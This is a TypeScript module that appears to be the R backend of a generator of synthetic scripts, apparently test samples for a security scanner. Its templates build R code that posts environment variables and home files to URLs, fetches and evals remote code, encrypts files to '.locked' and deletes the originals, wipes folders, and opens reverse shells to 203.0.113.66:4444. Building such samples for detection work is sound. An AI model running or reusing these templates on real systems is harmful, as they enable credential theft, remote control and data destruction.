import { type Dialect, value, wrap } from "./dialect.ts";

const quote = (text: string): string => JSON.stringify(text);
const home = (below: string): string => `file.path(Sys.getenv("HOME"), ${quote(below)})`;

export const r: Dialect = {
  name: "r",
  file: "scripts/notes.R",
  run: "Rscript scripts/notes.R",
  imports: [
    ["POST(", "library(httr)"],
    ["request(", "library(httr2)"],
    ["postForm", "library(RCurl)"],
    ["getURL", "library(RCurl)"],
    ["new_handle", "library(curl)"],
    ["toJSON", "library(jsonlite)"],
    ["base64_dec", "library(jsonlite)"],
    ["aes_cbc", "library(openssl)"],
  ],
  program: ({ definitions, body }, imports) =>
    [
      ...imports,
      "",
      'slurp <- function(path) paste(readLines(path, warn = FALSE), collapse = "\\n")',
      "",
      ...definitions,
      "",
      ...body,
      "",
    ].join("\n"),
  quote,
  environment: {
    one: (name) => `Sys.getenv(${name})`,
    all: 'paste(names(Sys.getenv()), Sys.getenv(), sep = "=", collapse = "\\n")',
  },
  contentOf: (below) => `slurp(${home(below)})`,
  home,
  clients: {
    httr: {
      post: (url, text) => [`POST(${url}, body = ${text})`],
      get: (url) => value("body", `body <- httr::content(httr::GET(${url}), as = "text")`),
    },
    "httr-json": { post: (url, text) => [`httr::POST(${url}, body = list(data = ${text}), encode = "json")`] },
    httr2: {
      post: (url, text) => [`request(${url}) |> req_body_json(list(data = ${text})) |> req_perform()`],
      get: (url) =>
        value("body", `body <- httr2::request(${url}) |> httr2::req_perform() |> httr2::resp_body_string()`),
    },
    "curl-handle": {
      post: (url, text) => [
        "h <- new_handle()",
        `handle_setopt(h, postfields = ${text})`,
        `curl_fetch_memory(${url}, handle = h)`,
      ],
      get: (url) => value("body", `body <- rawToChar(curl::curl_fetch_memory(${url})$content)`),
    },
    rcurl: {
      post: (url, text) => [`postForm(${url}, data = ${text})`],
      get: (url) => value("body", `body <- getURL(${url})`),
    },
    "read-lines": {
      post: (url, text) => [`readLines(paste0(${url}, "?d=", URLencode(${text}, reserved = TRUE)))`],
      get: (url) => value("body", `body <- paste(readLines(${url}), collapse = "\\n")`),
    },
    "download-file": {
      get: (url) =>
        value("body", "copy <- tempfile()", `download.file(${url}, copy, quiet = TRUE)`, "body <- slurp(copy)"),
    },
    "curl-system": { post: (url, text) => [`system2("curl", c("-s", "-d", shQuote(${text}), ${url}))`] },
  },
  shells: {
    system: {
      run: (c) => [`system(${c})`],
      capture: (c) => value("seen", `seen <- paste(system(${c}, intern = TRUE), collapse = "\\n")`),
    },
    system2: { run: (command) => [`system2("sh", c("-c", shQuote(${command})))`] },
    processx: { run: (command) => [`processx::run("sh", c("-c", ${command}))`] },
    pipe: { run: (command) => [`readLines(pipe(${command}))`] },
  },
  variable: (name) => name,
  set: (name, expression) => `${name} <- ${expression}`,
  define: (name, parameters, body) => wrap(`${name} <- function(${parameters.join(", ")}) {`, body, "}"),
  getter: (name, expression) => ({
    definitions: wrap(`${name} <- function() {`, [expression], "}"),
    value: `${name}()`,
  }),
  call: (name, values) => `${name}(${values.join(", ")})`,
  record: (url, text) => ({
    code: { definitions: [], body: [`job <- list(target = ${url}, text = ${text})`] },
    url: "job$target",
    text: "job$text",
  }),
  loop: (items, body) => wrap(`for (item in c(${items.join(", ")})) {`, body("item"), "}"),
  forever: (body) => wrap("repeat {", [...body, "Sys.sleep(60)"], "}"),
  save: (path, text) => [`writeLines(${text}, ${path})`],
  append: (path, text) => [`cat(${text}, "\\n", file = ${path}, append = TRUE)`],
  print: (text) => `cat(${text}, "\\n")`,
  walk: (folder, body) =>
    wrap(`for (path in list.files(${folder}, recursive = TRUE, full.names = TRUE)) {`, body("path"), "}"),
  remove: (file) => [`file.remove(${file})`],
  overwrite: (file) => [`writeBin(raw(file.size(${file})), ${file})`],
  encrypt: (file) => [
    `locked <- aes_cbc_encrypt(readBin(${file}, "raw", file.size(${file})), key = key)`,
    `writeBin(locked, paste0(${file}, ".locked"))`,
    `unlink(${file})`,
  ],
  removeTree: (folder) => [`unlink(${folder}, recursive = TRUE, force = TRUE)`],
  decode: (text) => `rawToChar(jsonlite::base64_dec(${text}))`,
  evaluate: (code) => `eval(parse(text = ${code}))`,
  oneLiner: (command) => `system(${quote(command)})`,
  shellsBehindSockets: {
    "system-loop":
      's <- socketConnection("203.0.113.66", 4444, blocking = TRUE, open = "r+")\nwhile (TRUE) {\n  cmd <- readLines(s, 1)\n  writeLines(system(cmd, intern = TRUE), s)\n}\n',
    bash: "system(\"bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'\")\n",
  },
  sockets: {
    print:
      's <- socketConnection("127.0.0.1", 6379, blocking = TRUE, open = "r+")\nwriteLines("PING", s)\nprint(readLines(s, 1))\nclose(s)\nsystem("git log --oneline -5")\n',
  },
};
